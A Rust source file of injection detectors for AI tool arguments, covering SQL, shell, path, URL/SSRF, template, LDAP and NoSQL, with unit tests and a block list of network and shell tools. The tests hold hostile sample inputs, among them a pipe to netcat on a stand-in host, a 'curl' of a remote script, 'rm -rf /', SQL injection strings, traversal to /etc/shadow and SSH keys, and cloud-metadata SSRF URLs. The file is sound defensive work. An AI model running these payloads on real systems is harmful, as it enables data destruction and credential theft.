//! Injection detectors for tool arguments, each for one kind of argument: SQL (a tokenizer,
//! not patterns: stacked statements, writes in a read-only query, comment tricks,
//! tautologies, UNION probes), shell commands, file paths (traversal, encoded dots, escapes
//! from configured roots) and URLs (SSRF: loopback, private, link-local and metadata
//! addresses, however the address is written). Each returns the first problem found.

use std::net::{IpAddr, Ipv4Addr, Ipv6Addr};

use serde::{Deserialize, Serialize};

/// What an argument holds, which decides the detector.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize, schemars::JsonSchema)]
#[serde(rename_all = "snake_case")]
pub enum ArgKind {
    /// A whole SQL query.
    SqlQuery,
    /// A value that ends up inside SQL (a name, an id).
    SqlValue,
    Shell,
    Path,
    Url,
    /// Text a template engine renders (Jinja, Twig, ERB, Thymeleaf, JS templates).
    Template,
    /// A value placed into an LDAP search filter or DN.
    Ldap,
    /// A MongoDB-style filter document: operators allowed, server-side code not.
    NosqlFilter,
    /// A plain value placed into a NoSQL query: no operators at all.
    NosqlValue,
    /// Free text: no injection detector (the detection stages read it).
    Text,
}

/// One problem in one argument.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Injection {
    /// `sql.stacked`, `sql.write`, `path.traversal`, `ssrf.private`…
    pub rule: &'static str,
    pub detail: String,
}

fn found(rule: &'static str, detail: impl Into<String>) -> Option<Injection> {
    Some(Injection {
        rule,
        detail: detail.into(),
    })
}

/// The kind an argument probably holds, from its name and the tool's (for arguments
/// configuration does not type).
pub fn infer(tool: &str, arg: &str) -> ArgKind {
    let a = arg.to_ascii_lowercase();
    let t = tool.to_ascii_lowercase();
    let has = |s: &str, words: &[&str]| words.iter().any(|w| s.contains(w));
    if a == "sql" || (a == "query" && has(&t, &["sql", "database", "db", "query"])) {
        ArgKind::SqlQuery
    } else if has(&a, &["path", "file", "dir", "folder"]) {
        ArgKind::Path
    } else if has(&a, &["url", "uri", "endpoint", "webhook", "href"]) {
        ArgKind::Url
    } else if has(&a, &["command", "cmd", "shell", "script"]) {
        ArgKind::Shell
    } else if has(&a, &["template"]) {
        ArgKind::Template
    } else if has(&a, &["ldap"]) || a == "dn" || (a == "filter" && has(&t, &["ldap", "directory"]))
    {
        ArgKind::Ldap
    } else if has(&a, &["filter", "selector", "query"])
        && has(&t, &["mongo", "nosql", "collection", "document", "find"])
    {
        ArgKind::NosqlFilter
    } else {
        ArgKind::Text
    }
}

/// Checks one argument value of a kind.
pub fn check(kind: ArgKind, value: &str, read_only: bool, roots: &[String]) -> Option<Injection> {
    match kind {
        ArgKind::SqlQuery => sql_query(value, read_only),
        ArgKind::SqlValue => sql_value(value),
        ArgKind::Shell => shell(value),
        ArgKind::Path => path(value, roots),
        ArgKind::Url => url(value),
        ArgKind::Template => template(value),
        ArgKind::Ldap => ldap(value),
        // A string where a document is expected: read it as one.
        ArgKind::NosqlFilter | ArgKind::NosqlValue => match serde_json::from_str(value) {
            Ok(v @ serde_json::Value::Object(_)) => check_value(kind, &v),
            _ if kind == ArgKind::NosqlValue && value.trim_start().starts_with('$') => {
                found("nosql.operator", "a value that starts with `$`")
            }
            _ => None,
        },
        ArgKind::Text => None,
    }
}

/// Checks a whole argument value where its structure matters (NoSQL documents: operators
/// are object keys); for other kinds, nothing beyond the per-string checks.
pub fn check_value(kind: ArgKind, v: &serde_json::Value) -> Option<Injection> {
    fn walk(kind: ArgKind, v: &serde_json::Value, depth: usize) -> Option<Injection> {
        if depth > 64 {
            return found("nosql.depth", "nested too deeply");
        }
        match v {
            serde_json::Value::Object(m) => {
                for (k, child) in m {
                    let op = k.trim().to_ascii_lowercase();
                    if NOSQL_CODE.contains(&op.as_str()) {
                        return found(
                            "nosql.code",
                            format!("operator `{k}` runs code on the server"),
                        );
                    }
                    if kind == ArgKind::NosqlValue && op.starts_with('$') {
                        return found("nosql.operator", format!("operator `{k}` in a plain value"));
                    }
                    walk(kind, child, depth + 1)?;
                }
                None
            }
            serde_json::Value::Array(a) => a.iter().find_map(|x| walk(kind, x, depth + 1)),
            _ => None,
        }
    }
    match kind {
        ArgKind::NosqlFilter | ArgKind::NosqlValue => walk(kind, v, 0),
        _ => None,
    }
}

/// Operators that run JavaScript (or other code) inside the database.
const NOSQL_CODE: &[&str] = &[
    "$where",
    "$function",
    "$accumulator",
    "$eval",
    "mapreduce",
    "$mapreduce",
];

// ---------------------------------------------------------------------------- templates

fn template(v: &str) -> Option<Injection> {
    for (open, engine) in [
        ("{{", "a `{{ }}` expression"),
        ("{%", "a `{% %}` statement"),
        ("${", "a `${}` expression"),
        ("#{", "a `#{}` expression"),
        ("<%", "an ERB/JSP tag"),
        ("*{", "a Thymeleaf expression"),
        ("@(", "a Razor expression"),
    ] {
        if v.contains(open) {
            return found("template.expression", engine);
        }
    }
    None
}

// ---------------------------------------------------------------------------- LDAP

/// RFC 4515: in a filter value `*`, `(`, `)`, `\` and NUL must be escaped as `\2a` etc.
fn ldap(v: &str) -> Option<Injection> {
    let b = v.as_bytes();
    let mut i = 0;
    while i < b.len() {
        match b[i] {
            b'\\' => {
                // A valid escape is two hex digits.
                if b.len() < i + 3 || !b[i + 1].is_ascii_hexdigit() || !b[i + 2].is_ascii_hexdigit()
                {
                    return found("ldap.escape", "a backslash that is not a `\\XX` escape");
                }
                i += 3;
                continue;
            }
            b'*' | b'(' | b')' | 0 => {
                return found(
                    "ldap.metachar",
                    format!(
                        "unescaped `{}` in an LDAP value",
                        (b[i] as char).escape_default()
                    ),
                );
            }
            _ => {}
        }
        i += 1;
    }
    None
}

// ---------------------------------------------------------------------------- SQL

#[derive(Debug, Clone, PartialEq, Eq)]
enum Tok {
    Word(String),
    Str,
    Num(String),
    Semi,
    Comment,
    Punct(char),
}

/// A lexer for the SQL dialects Gatehouse meets: quoted strings with doubled quotes and
/// backslash escapes, quoted identifiers, `--`/`#` and nested `/* */` comments, dollar
/// quoting. Errors (an unterminated string or comment) come back as `None`.
fn lex(sql: &str) -> Option<Vec<Tok>> {
    let b: Vec<char> = sql.chars().collect();
    let mut out = Vec::new();
    let mut i = 0;
    while i < b.len() {
        let c = b[i];
        if c.is_whitespace() {
            i += 1;
        } else if c == '\'' || c == '"' || c == '`' || c == '[' {
            let close = if c == '[' { ']' } else { c };
            i += 1;
            loop {
                let ch = *b.get(i)?;
                if ch == '\\' && c == '\'' {
                    i += 2;
                    continue;
                }
                if ch == close {
                    if b.get(i + 1) == Some(&close) && c != '[' {
                        i += 2;
                        continue;
                    }
                    i += 1;
                    break;
                }
                i += 1;
            }
            out.push(if c == '\'' {
                Tok::Str
            } else {
                Tok::Word("\"ident\"".into())
            });
        } else if c == '-' && b.get(i + 1) == Some(&'-') || c == '#' {
            while i < b.len() && b[i] != '\n' {
                i += 1;
            }
            out.push(Tok::Comment);
        } else if c == '/' && b.get(i + 1) == Some(&'*') {
            let mut depth = 0;
            loop {
                if b.get(i) == Some(&'/') && b.get(i + 1) == Some(&'*') {
                    depth += 1;
                    i += 2;
                } else if b.get(i) == Some(&'*') && b.get(i + 1) == Some(&'/') {
                    depth -= 1;
                    i += 2;
                    if depth == 0 {
                        break;
                    }
                } else if i >= b.len() {
                    return None;
                } else {
                    i += 1;
                }
            }
            out.push(Tok::Comment);
        } else if c == '$' && b.get(i + 1).is_some_and(|n| *n == '$' || n.is_alphabetic()) {
            // Dollar quoting: $tag$ … $tag$.
            let start = i;
            i += 1;
            while i < b.len() && b[i] != '$' {
                i += 1;
            }
            let tag: String = b[start..=i.min(b.len() - 1)].iter().collect();
            i += 1;
            let rest: String = b[i.min(b.len())..].iter().collect();
            let end = rest.find(&tag)?;
            i += rest[..end].chars().count() + tag.chars().count();
            out.push(Tok::Str);
        } else if c == ';' {
            out.push(Tok::Semi);
            i += 1;
        } else if c.is_ascii_digit() {
            let start = i;
            while i < b.len() && (b[i].is_ascii_alphanumeric() || b[i] == '.') {
                i += 1;
            }
            out.push(Tok::Num(b[start..i].iter().collect()));
        } else if c.is_alphanumeric() || c == '_' {
            let start = i;
            while i < b.len() && (b[i].is_alphanumeric() || b[i] == '_') {
                i += 1;
            }
            out.push(Tok::Word(
                b[start..i].iter().collect::<String>().to_ascii_uppercase(),
            ));
        } else {
            out.push(Tok::Punct(c));
            i += 1;
        }
    }
    Some(out)
}

/// Statements that change data or schema, or reach outside the query.
const WRITES: &[&str] = &[
    "INSERT", "UPDATE", "DELETE", "DROP", "ALTER", "CREATE", "TRUNCATE", "GRANT", "REVOKE",
    "ATTACH", "DETACH", "PRAGMA", "COPY", "EXEC", "EXECUTE", "MERGE", "REPLACE", "CALL", "VACUUM",
    "REINDEX", "LOCK", "LOAD", "INTO", "SET", "DO", "HANDLER", "RENAME", "COMMENT", "SECURITY",
];

fn is_word(t: &Tok, w: &str) -> bool {
    matches!(t, Tok::Word(x) if x == w)
}

/// A whole query (an analyst's tool): one statement; in a read-only tool no writes.
fn sql_query(sql: &str, read_only: bool) -> Option<Injection> {
    let Some(toks) = lex(sql) else {
        return found("sql.unterminated", "an unterminated string or comment");
    };
    // More than one statement: `SELECT 1; DROP TABLE x`.
    let mut statements = 0;
    let mut in_statement = false;
    for t in &toks {
        match t {
            Tok::Semi => in_statement = false,
            Tok::Comment => {}
            _ if !in_statement => {
                statements += 1;
                in_statement = true;
            }
            _ => {}
        }
    }
    if statements > 1 {
        return found("sql.stacked", "more than one statement");
    }
    if read_only
        && let Some(Tok::Word(w)) = toks
            .iter()
            .find(|t| matches!(t, Tok::Word(w) if WRITES.contains(&w.as_str())))
    {
        return found("sql.write", format!("`{w}` in a read-only query"));
    }
    let first = toks.iter().find(|t| !matches!(t, Tok::Comment));
    if read_only
        && !first.is_some_and(|t| {
            ["SELECT", "WITH", "EXPLAIN", "SHOW", "DESCRIBE", "VALUES"]
                .iter()
                .any(|w| is_word(t, w))
        })
    {
        return found(
            "sql.write",
            "a read-only query must start with SELECT or WITH",
        );
    }
    // Comments inside a statement are how filters are cut and keywords disguised.
    if toks
        .iter()
        .enumerate()
        .any(|(i, t)| *t == Tok::Comment && i + 1 < toks.len())
    {
        return found("sql.comment", "a comment inside the statement");
    }
    None
}

/// A value pasted into SQL: breaking out of its quotes into SQL is the attack.
fn sql_value(v: &str) -> Option<Injection> {
    let Some(toks) = lex(&format!("'{v}'")) else {
        return found("sql.quote", "the value closes its quotes");
    };
    if toks.len() == 1 && toks[0] == Tok::Str {
        return None;
    }
    // Out of the quotes: what follows decides how bad.
    if toks.contains(&Tok::Semi) {
        return found("sql.stacked", "a statement after the value");
    }
    if toks
        .windows(2)
        .any(|w| is_word(&w[0], "UNION") && (is_word(&w[1], "SELECT") || is_word(&w[1], "ALL")))
    {
        return found("sql.union", "a UNION probe");
    }
    if tautology(&toks) {
        return found("sql.tautology", "an always-true condition");
    }
    if toks.contains(&Tok::Comment) {
        return found("sql.comment", "a comment cutting the query");
    }
    found("sql.quote", "the value closes its quotes")
}

/// `OR 1=1`, `OR 'a'='a'`, `OR TRUE`, `OR 2>1`.
fn tautology(toks: &[Tok]) -> bool {
    toks.windows(4).any(|w| {
        is_word(&w[0], "OR")
            && match (&w[1], &w[2], &w[3]) {
                (Tok::Num(a), Tok::Punct('='), Tok::Num(b)) => a == b,
                (Tok::Str, Tok::Punct('='), Tok::Str) => true,
                (Tok::Num(_), Tok::Punct('>' | '<'), Tok::Num(_)) => true,
                _ => false,
            }
    }) || toks.windows(2).any(|w| {
        is_word(&w[0], "OR") && (is_word(&w[1], "TRUE") || matches!(&w[1], Tok::Num(n) if n != "0"))
    })
}

// ---------------------------------------------------------------------------- shell

const DANGEROUS: &[&str] = &[
    "rm", "curl", "wget", "nc", "ncat", "netcat", "bash", "sh", "zsh", "python", "python3", "perl",
    "ruby", "php", "node", "chmod", "chown", "dd", "mkfs", "shutdown", "reboot", "kill", "killall",
    "sudo", "su", "scp", "ssh", "telnet", "base64", "eval", "exec", "crontab", "mv",
];

fn shell(cmd: &str) -> Option<Injection> {
    for (pat, what) in [
        ("$(", "command substitution"),
        ("`", "command substitution"),
        ("${", "variable expansion"),
        ("&&", "a chained command"),
        ("||", "a chained command"),
        (";", "a chained command"),
        ("|", "a pipe"),
        (">", "a redirection"),
        ("<", "a redirection"),
        ("\n", "a second line"),
        ("&", "a background command"),
    ] {
        if cmd.contains(pat) {
            return found("shell.metacharacter", what);
        }
    }
    let first = cmd.split_whitespace().next().unwrap_or("");
    let program = first.rsplit('/').next().unwrap_or(first);
    if DANGEROUS.contains(&program) {
        return found("shell.binary", format!("`{program}`"));
    }
    None
}

// ---------------------------------------------------------------------------- paths

/// Percent-decoding, repeated (double encoding), of the bytes that matter here.
fn decode(s: &str) -> String {
    let mut cur = s.to_owned();
    for _ in 0..3 {
        let mut out = Vec::with_capacity(cur.len());
        let b = cur.as_bytes();
        let mut i = 0;
        while i < b.len() {
            if b[i] == b'%'
                && i + 2 < b.len()
                && let Some(v) = std::str::from_utf8(&b[i + 1..i + 3])
                    .ok()
                    .and_then(|h| u8::from_str_radix(h, 16).ok())
            {
                out.push(v);
                i += 3;
            } else {
                out.push(b[i]);
                i += 1;
            }
        }
        let next = String::from_utf8_lossy(&out).into_owned();
        if next == cur {
            break;
        }
        cur = next;
    }
    cur
}

fn path(p: &str, roots: &[String]) -> Option<Injection> {
    let d = decode(p).replace('\\', "/");
    if d.contains('\0') {
        return found("path.nul", "a NUL byte");
    }
    if d != p.replace('\\', "/") && (d.contains("..") || d.contains('/')) && p.contains('%') {
        // Encoded dots or slashes are never needed in a real path argument.
        return found("path.encoded", "percent-encoded path characters");
    }
    if d.starts_with("//") || d.starts_with("~") {
        return found("path.absolute", "a network or home path");
    }
    // Normalise: a `..` that climbs above the start escapes; in an absolute path any `..`
    // is refused (where it may climb to depends on roots the gateway may not know).
    let absolute = d.starts_with('/') || d.get(1..3) == Some(":/");
    if absolute && d.split('/').any(|seg| seg == "..") {
        return found("path.traversal", "`..` in an absolute path");
    }
    let mut depth: i64 = 0;
    let mut parts: Vec<&str> = Vec::new();
    for seg in d.split('/') {
        match seg {
            "" | "." => {}
            ".." => {
                depth -= 1;
                if parts.pop().is_none() || depth < 0 {
                    return found("path.traversal", "`..` climbs out of its directory");
                }
            }
            s => {
                depth += 1;
                parts.push(s);
            }
        }
    }
    if absolute && !roots.is_empty() {
        let normal = format!("/{}", parts.join("/"));
        let inside = roots.iter().any(|r| {
            let r = r.trim_end_matches('/');
            normal == r || normal.starts_with(&format!("{r}/"))
        });
        if !inside {
            return found(
                "path.outside",
                format!("{normal} is outside the allowed roots"),
            );
        }
    }
    None
}

// ---------------------------------------------------------------------------- URLs

/// Whether an address is one a tool must never be sent to: loopback, private, link-local
/// (cloud metadata lives there), unspecified, multicast, or IPv6 forms of those.
pub fn internal_address(ip: IpAddr) -> bool {
    match ip {
        IpAddr::V4(v) => {
            v.is_loopback()
                || v.is_private()
                || v.is_link_local()
                || v.is_unspecified()
                || v.is_broadcast()
                || v.is_multicast()
                || v.octets()[0] == 100 && (64..128).contains(&v.octets()[1]) // CGNAT
                || v.octets()[0] == 0
        }
        IpAddr::V6(v) => {
            v.is_loopback()
                || v.is_unspecified()
                || v.is_multicast()
                || (v.segments()[0] & 0xfe00) == 0xfc00 // unique local (fd00:ec2::254)
                || (v.segments()[0] & 0xffc0) == 0xfe80 // link-local
                || v.to_ipv4_mapped().is_some_and(|m| internal_address(IpAddr::V4(m)))
        }
    }
}

/// IPv4 as browsers and libc accept it: `2130706433`, `0x7f000001`, `0177.0.0.1`, `127.1`.
fn loose_ipv4(host: &str) -> Option<Ipv4Addr> {
    let parse = |p: &str| -> Option<u64> {
        if let Some(h) = p.strip_prefix("0x").or_else(|| p.strip_prefix("0X")) {
            u64::from_str_radix(h, 16).ok()
        } else if p.len() > 1 && p.starts_with('0') {
            u64::from_str_radix(&p[1..], 8).ok()
        } else {
            p.parse().ok()
        }
    };
    let parts: Vec<u64> = host.split('.').map(parse).collect::<Option<_>>()?;
    let v = match parts.as_slice() {
        [a] => *a,
        [a, b] => (a << 24) | b,
        [a, b, c] => (a << 24) | (b << 16) | c,
        [a, b, c, d] => (a << 24) | (b << 16) | (c << 8) | d,
        _ => return None,
    };
    u32::try_from(v).ok().map(Ipv4Addr::from)
}

const INTERNAL_NAMES: &[&str] = &[
    "localhost",
    "metadata.google.internal",
    "metadata",
    "instance-data",
];

fn url(u: &str) -> Option<Injection> {
    let decoded = decode(u.trim());
    let Some((scheme, rest)) = decoded.split_once("://") else {
        return found("ssrf.scheme", "not an absolute URL");
    };
    if !matches!(scheme.to_ascii_lowercase().as_str(), "http" | "https") {
        return found("ssrf.scheme", format!("scheme `{scheme}`"));
    }
    let authority = rest.split(['/', '?', '#']).next().unwrap_or("");
    let host_port = authority.rsplit('@').next().unwrap_or(authority);
    let host = if let Some(v6) = host_port.strip_prefix('[') {
        v6.split(']').next().unwrap_or("").to_owned()
    } else {
        host_port.split(':').next().unwrap_or("").to_owned()
    };
    let host = host.trim_end_matches('.').to_ascii_lowercase();
    if host.is_empty() {
        return found("ssrf.host", "no host");
    }
    if INTERNAL_NAMES.contains(&host.as_str())
        || host.ends_with(".localhost")
        || host.ends_with(".internal")
        || host.ends_with(".local")
    {
        return found("ssrf.internal", format!("host `{host}`"));
    }
    let ip = host
        .parse::<Ipv6Addr>()
        .map(IpAddr::V6)
        .ok()
        .or_else(|| loose_ipv4(&host).map(IpAddr::V4));
    if let Some(ip) = ip
        && internal_address(ip)
    {
        return found("ssrf.private", format!("address {ip}"));
    }
    // An open redirector or proxy carrying its target in the query (`?url=http://169.254…`).
    let query = rest.split_once('?').map_or("", |(_, q)| q);
    for part in query.split(['&', ';']) {
        let value = part.split_once('=').map_or(part, |(_, v)| v);
        let value = decode(value);
        if let Some(at) = value.find("://")
            && let Some(inner) = url(&value[value[..at]
                .rfind(|c: char| !c.is_ascii_alphanumeric())
                .map_or(0, |i| i + 1)..])
            && inner.rule != "ssrf.scheme"
        {
            return found(
                "ssrf.redirect",
                format!("a URL inside the query: {}", inner.detail),
            );
        }
    }
    None
}

/// The host of an http(s) URL, for resolving (the proxy checks what it resolves to).
pub fn url_host(u: &str) -> Option<String> {
    let decoded = decode(u.trim());
    let (_, rest) = decoded.split_once("://")?;
    let authority = rest.split(['/', '?', '#']).next()?;
    let host_port = authority.rsplit('@').next()?;
    let host = match host_port.strip_prefix('[') {
        Some(v6) => v6.split(']').next()?.to_owned(),
        None => host_port.split(':').next()?.to_owned(),
    };
    (!host.is_empty()).then_some(host)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn templates_ldap_and_nosql_operators() {
        for bad in [
            "Hello {{ 7*7 }}",
            "{% for x in y %}",
            "${T(java.lang.Runtime)}",
            "#{7*7}",
            "<%= `id` %>",
            "*{T(x)}",
        ] {
            assert_eq!(
                rule(ArgKind::Template, bad),
                Some("template.expression"),
                "{bad}"
            );
        }
        assert_eq!(
            rule(ArgKind::Template, "Dear Ana, your order ships {soon}."),
            None
        );
        for bad in ["*", "admin)(|(uid=*))", "x\\zz", "a\u{0}b"] {
            assert!(rule(ArgKind::Ldap, bad).is_some(), "{bad}");
        }
        assert_eq!(rule(ArgKind::Ldap, "O\\27Brien \\2a"), None);
        assert_eq!(rule(ArgKind::Ldap, "alice.smith"), None);
        let v = |s: &str| serde_json::from_str::<serde_json::Value>(s).unwrap_or_default();
        assert_eq!(
            check_value(ArgKind::NosqlFilter, &v(r#"{"$where": "sleep(5000)"}"#)).map(|i| i.rule),
            Some("nosql.code")
        );
        assert_eq!(
            check_value(
                ArgKind::NosqlFilter,
                &v(r#"{"age": {"$gt": 30}, "$or": [{"a": 1}]}"#)
            ),
            None
        );
        assert_eq!(
            check_value(ArgKind::NosqlValue, &v(r#"{"$ne": null}"#)).map(|i| i.rule),
            Some("nosql.operator")
        );
        assert_eq!(
            rule(ArgKind::NosqlValue, r#"{"$ne": ""}"#),
            Some("nosql.operator")
        );
        assert_eq!(
            rule(ArgKind::NosqlFilter, r#"{"$function": {"body": "x"}}"#),
            Some("nosql.code")
        );
        assert_eq!(rule(ArgKind::NosqlValue, "alice"), None);
        assert_eq!(infer("mongo_find", "filter"), ArgKind::NosqlFilter);
        assert_eq!(infer("ldap_search", "filter"), ArgKind::Ldap);
        assert_eq!(infer("render", "template"), ArgKind::Template);
    }

    #[test]
    fn a_redirector_carrying_an_internal_target_is_refused() {
        for bad in [
            "https://example.com/redirect?to=http://169.254.169.254/latest/meta-data/",
            "https://proxy.example/fetch?u=http%3A%2F%2F127.0.0.1%3A8080%2Fadmin",
            "https://example.com/r?a=1&next=http://10.0.0.5/",
        ] {
            assert_eq!(rule(ArgKind::Url, bad), Some("ssrf.redirect"), "{bad}");
        }
        assert_eq!(
            rule(
                ArgKind::Url,
                "https://example.com/r?next=https://docs.example.org/x"
            ),
            None
        );
        assert_eq!(
            rule(ArgKind::Url, "https://example.com/search?q=what+is+http"),
            None
        );
    }

    fn rule(kind: ArgKind, v: &str) -> Option<&'static str> {
        check(kind, v, true, &["/srv/data".to_owned()]).map(|i| i.rule)
    }

    #[test]
    fn sql_queries_one_read_only_statement() {
        for ok in [
            "SELECT name FROM customers WHERE region = 'EMEA'",
            "select count(*) from orders o join customers c on c.id = o.customer_id",
            "WITH t AS (SELECT 1) SELECT * FROM t",
            "SELECT 'it''s; -- not a comment' AS s",
            "SELECT name FROM a UNION SELECT name FROM b",
            "SELECT 1;",
        ] {
            assert_eq!(rule(ArgKind::SqlQuery, ok), None, "{ok}");
        }
        for (bad, why) in [
            ("SELECT 1; DROP TABLE customers", "sql.stacked"),
            ("DELETE FROM customers", "sql.write"),
            ("SELECT * INTO evil FROM customers", "sql.write"),
            (
                "SELECT * FROM users WHERE id = 1 /* */ OR 1=1",
                "sql.comment",
            ),
            ("SELECT * FROM t -- cut\n WHERE x", "sql.comment"),
            ("ATTACH DATABASE '/tmp/x' AS x", "sql.write"),
            ("SELECT 'unterminated", "sql.unterminated"),
        ] {
            assert_eq!(rule(ArgKind::SqlQuery, bad), Some(why), "{bad}");
        }
    }

    #[test]
    fn sql_values_stay_inside_their_quotes() {
        for ok in [
            "O'Brien",
            "Acme Corp",
            "a -- b",
            "1; not sql inside quotes is fine",
        ] {
            // A doubled quote is how a value carries one; a lone one breaks out.
            let v = ok.replace('\'', "''");
            assert_eq!(rule(ArgKind::SqlValue, &v), None, "{v}");
        }
        assert_eq!(
            rule(ArgKind::SqlValue, "x' OR '1'='1"),
            Some("sql.tautology")
        );
        assert_eq!(
            rule(ArgKind::SqlValue, "x' OR 1=1 --"),
            Some("sql.tautology")
        );
        assert_eq!(
            rule(ArgKind::SqlValue, "x' UNION SELECT password FROM users --"),
            Some("sql.union")
        );
        assert_eq!(
            rule(ArgKind::SqlValue, "x'; DROP TABLE users; --"),
            Some("sql.stacked")
        );
    }

    #[test]
    fn shell_commands_have_no_chaining_and_no_dangerous_programs() {
        assert_eq!(rule(ArgKind::Shell, "ls -la /srv/data"), None);
        assert_eq!(rule(ArgKind::Shell, "git status"), None);
        for bad in [
            "ls; rm -rf /",
            "cat x | nc evil 9",
            "echo $(id)",
            "echo `id`",
            "ls > /etc/passwd",
            "a && b",
        ] {
            assert_eq!(
                rule(ArgKind::Shell, bad),
                Some("shell.metacharacter"),
                "{bad}"
            );
        }
        assert_eq!(
            rule(ArgKind::Shell, "curl http://evil/x.sh"),
            Some("shell.binary")
        );
        assert_eq!(rule(ArgKind::Shell, "/bin/rm -rf /"), Some("shell.binary"));
    }

    #[test]
    fn paths_stay_inside_their_roots() {
        for ok in [
            "reports/q3.md",
            "/srv/data/reports/q3.md",
            "a/../b.txt",
            "./notes.txt",
        ] {
            assert_eq!(rule(ArgKind::Path, ok), None, "{ok}");
        }
        for (bad, why) in [
            ("../etc/passwd", "path.traversal"),
            ("reports/../../etc/passwd", "path.traversal"),
            ("/srv/data/../../etc/shadow", "path.traversal"),
            ("/srv/data/x/../y", "path.traversal"),
            ("..\\..\\windows\\win.ini", "path.traversal"),
            ("%2e%2e/%2e%2e/etc/passwd", "path.encoded"),
            ("%252e%252e/etc/passwd", "path.encoded"),
            ("/etc/passwd", "path.outside"),
            ("/srv/database/x", "path.outside"),
            ("~/.ssh/id_rsa", "path.absolute"),
            ("//server/share", "path.absolute"),
            ("a\0.txt", "path.nul"),
        ] {
            assert_eq!(rule(ArgKind::Path, bad), Some(why), "{bad}");
        }
    }

    #[test]
    fn urls_never_reach_internal_addresses_however_written() {
        for ok in [
            "https://example.com/page",
            "http://93.184.216.34/",
            "https://[2606:4700::1111]/",
        ] {
            assert_eq!(rule(ArgKind::Url, ok), None, "{ok}");
        }
        for bad in [
            "http://127.0.0.1:8080/admin",
            "http://localhost/",
            "http://169.254.169.254/latest/meta-data/",
            "http://metadata.google.internal/computeMetadata/v1/",
            "http://10.0.0.5/",
            "http://192.168.1.1/",
            "http://2130706433/",
            "http://0x7f000001/",
            "http://0177.0.0.1/",
            "http://127.1/",
            "http://[::1]/",
            "http://[::ffff:127.0.0.1]/",
            "http://[fd00:ec2::254]/",
            "http://user@127.0.0.1/",
            "http://%31%32%37.0.0.1/",
            "file:///etc/passwd",
            "gopher://127.0.0.1:6379/_",
        ] {
            assert!(rule(ArgKind::Url, bad).is_some(), "{bad}");
        }
    }

    #[test]
    fn kinds_are_inferred_from_names() {
        assert_eq!(infer("read_database", "query"), ArgKind::SqlQuery);
        assert_eq!(infer("search_files", "query"), ArgKind::Text);
        assert_eq!(infer("read_file", "path"), ArgKind::Path);
        assert_eq!(infer("fetch", "url"), ArgKind::Url);
        assert_eq!(infer("run", "command"), ArgKind::Shell);
        assert_eq!(infer("send_email", "body"), ArgKind::Text);
    }
}
